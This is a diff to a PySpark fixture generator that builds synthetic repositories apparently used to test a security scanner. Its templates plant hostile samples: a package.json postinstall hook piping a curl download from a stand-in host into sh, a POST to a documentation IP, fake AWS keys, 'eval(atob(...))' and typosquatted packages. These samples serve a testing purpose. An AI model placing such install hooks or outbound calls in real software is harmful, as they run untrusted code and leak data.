@@ -13,23 +13,39 @@ from __future__ import annotations
 
 from pyspark.sql import DataFrame, SparkSession
 
-# code_files: 25 files per repository, built from `documents` rows. Fixed
-# values: file layout and per-slot templates of the corpus fixture.
+from riskloom.session import spread
+
+# characters that JSON text must escape, each replaced by a blank
+_JSON_UNSAFE = " || ".join(f"chr({i})" for i in [*range(1, 32), 34, 92, 127])
+_JSON_BLANKS = " " * (31 + 3)
+
+
+def _lines(prefix: str) -> str:
+    """The document's whole text as comment lines below the template lines."""
+    return f"chr(10) || '{prefix}' || replace(text, chr(10), chr(10) || '{prefix}')"
+
+
+# code_files: 25 files per scan, two scans (commits) per repository, built from
+# `documents` rows. Every document's whole text is in its file: as comment lines
+# in code, as a JSON value in package.json, as plain text elsewhere. Every fifth
+# repository has no .gitignore. File layout and per-slot templates.
 CODE_FILES_TEMPLATE = r"""
-SELECT repo_id, file_path, content, md5(repo_id) AS commit_sha, CAST(length(content) AS BIGINT) AS size_bytes
+SELECT repo_id, file_path, content, commit_sha, CAST(length(content) AS BIGINT) AS size_bytes
 FROM (
 WITH d AS (
-  SELECT doc_id, text, CAST(floor(doc_id / 25) AS BIGINT) AS repo, doc_id % 25 AS slot FROM {documents}
+  SELECT doc_id, coalesce(text, '') AS text, CAST(floor(doc_id / 50) AS BIGINT) AS repo,
+         CAST(floor(doc_id / 25) AS BIGINT) % 2 AS rev, doc_id % 25 AS slot FROM {documents}
 )
 SELECT 'repo-' || lpad(CAST(repo AS STRING), 5, '0') AS repo_id,
-  CASE slot WHEN 0 THEN '.gitignore' WHEN 1 THEN '.env' WHEN 2 THEN '.env.local'
+  md5('repo-' || CAST(repo AS STRING) || '@' || CAST(rev AS STRING)) AS commit_sha,
+  CASE slot WHEN 0 THEN CASE repo % 5 WHEN 4 THEN 'docs/ignore-list.md' ELSE '.gitignore' END WHEN 1 THEN '.env' WHEN 2 THEN '.env.local'
     WHEN 3 THEN 'app/settings.py' WHEN 4 THEN 'app/main.py' WHEN 5 THEN 'app/llm.py'
     WHEN 6 THEN 'app/models.py' WHEN 7 THEN 'web/auth.ts' WHEN 8 THEN 'web/backdoor.js'
     WHEN 9 THEN 'web/prompt.ts' WHEN 10 THEN 'package.json' WHEN 11 THEN 'requirements.txt'
     WHEN 12 THEN 'go.mod' WHEN 13 THEN 'app/network.py' WHEN 14 THEN 'README.md'
     WHEN 15 THEN 'app/keys.py' WHEN 16 THEN 'node_modules/x/index.js' WHEN 17 THEN 'app/broken.py'
     ELSE 'docs/note-' || CAST(slot AS STRING) || '.md' END AS file_path,
-  CASE slot
+  CASE WHEN slot >= 18 THEN text ELSE (CASE slot
     WHEN 0 THEN CASE repo % 4 WHEN 0 THEN '# local' || chr(10) || '.env' || chr(10) || '.env.*'
                  WHEN 1 THEN 'node_modules/' || chr(10) || '.env.*'
                  WHEN 2 THEN '.env.local' || chr(10) || '*.log' ELSE '*.log' END
@@ -53,7 +69,7 @@ SELECT 'repo-' || lpad(CAST(repo AS STRING), 5, '0') AS repo_id,
     WHEN 10 THEN '{{' || chr(10) || '  "scripts": {{' || chr(10) || '    "postinstall": "'
              || CASE repo % 4 WHEN 0 THEN 'node -e 1' WHEN 1 THEN 'curl https://a.example.invalid/i.sh | sh'
                  WHEN 2 THEN 'bash setup.sh' ELSE 'tsc' END || '"' || chr(10) || '  }},' || chr(10)
-             || '  "dependencies": {{' || chr(10) || '    "lodahs": "4.17.21",' || chr(10) || '    "z9qx7k2w9": "1.0.0"' || chr(10) || '  }}' || chr(10) || '}}'
+             || '  "description": "' || translate(text, @UNSAFE@, '@BLANKS@') || '",' || chr(10) || '  "dependencies": {{' || chr(10) || '    "lodahs": "4.17.21",' || chr(10) || '    "z9qx7k2w9": "1.0.0"' || chr(10) || '  }}' || chr(10) || '}}'
     WHEN 11 THEN '# pins' || chr(10) || 'reqeusts==2.32.0' || chr(10) || 'fastapi>=0.110' || chr(10) || 'pkg' || CAST(100000 + repo AS STRING) || '==1.0'
     WHEN 12 THEN 'module example.com/demo' || chr(10) || 'require (' || chr(10) || '  github.com/example/faskapi v1.0.0' || chr(10) || ')'
     WHEN 13 THEN 'requests.post("http://198.51.100.' || CAST(repo % 250 AS STRING) || '/b")' || chr(10)
@@ -63,10 +79,11 @@ SELECT 'repo-' || lpad(CAST(repo AS STRING), 5, '0') AS repo_id,
     WHEN 15 THEN 'AWS_ACCESS_KEY_ID = "AKIA' || upper(substr(md5(CAST(doc_id AS STRING)), 1, 16)) || '"'
     WHEN 16 THEN 'eval(atob("eA=="))'
     WHEN 17 THEN 'def unfinished('
-    ELSE text END AS content
+    END) || CASE WHEN slot = 10 THEN '' WHEN slot = 14 THEN chr(10) || text WHEN slot IN (7, 8, 9, 12, 16) THEN @SLASHES@ ELSE @HASHES@ END
+  END AS content
 FROM d
 ) AS files
-"""
+""".replace("@UNSAFE@", _JSON_UNSAFE).replace("@BLANKS@", _JSON_BLANKS).replace("@SLASHES@", _lines("// ")).replace("@HASHES@", _lines("# "))
 
 FINDINGS_BASE_TEMPLATE = r"""
 SELECT CAST(l_orderkey * 10 + l_linenumber AS BIGINT) AS finding_id, CAST(l_orderkey % 500 AS BIGINT) AS scan_id,
@@ -119,8 +136,13 @@ def duck_with(*names: str) -> str:
     return "WITH " + ",\n".join(f"{n} AS ({duck_view(n)})" for n in names) + "\n"
 
 
+PARTITIONS_KEY = "spark.riskloom.scan.partitions"
+
+
 def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
-    return spark.read.parquet(f"{sf_dir.rstrip('/')}/{name}.parquet")
+    """A driver table; the caller may ask for a partition count (small files in one row group)."""
+    n = spark.conf.get(PARTITIONS_KEY, None)
+    return spread(spark.read.parquet(f"{sf_dir.rstrip('/')}/{name}.parquet"), int(n) if n else None)
 
 
 def code_files(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -129,9 +151,8 @@ def code_files(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 def findings_base(spark: SparkSession, sf_dir: str) -> DataFrame:
-    from riskloom.session import ensure_parallelism
-    li = ensure_parallelism(read_table(spark, sf_dir, "lineitem").select(
-        "l_orderkey", "l_linenumber", "l_partkey", "l_suppkey", "l_shipdate"))
+    li = read_table(spark, sf_dir, "lineitem").select(
+        "l_orderkey", "l_linenumber", "l_partkey", "l_suppkey", "l_shipdate")
     return spark.sql(FINDINGS_BASE_TEMPLATE, lineitem=li)
 
 
@@ -140,6 +161,5 @@ def reasoning_responses(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 def remediation_events(spark: SparkSession, sf_dir: str) -> DataFrame:
-    from riskloom.session import ensure_parallelism
-    ev = ensure_parallelism(read_table(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type"))
+    ev = read_table(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type")
     return spark.sql(REMEDIATION_EVENTS_TEMPLATE, events=ev)
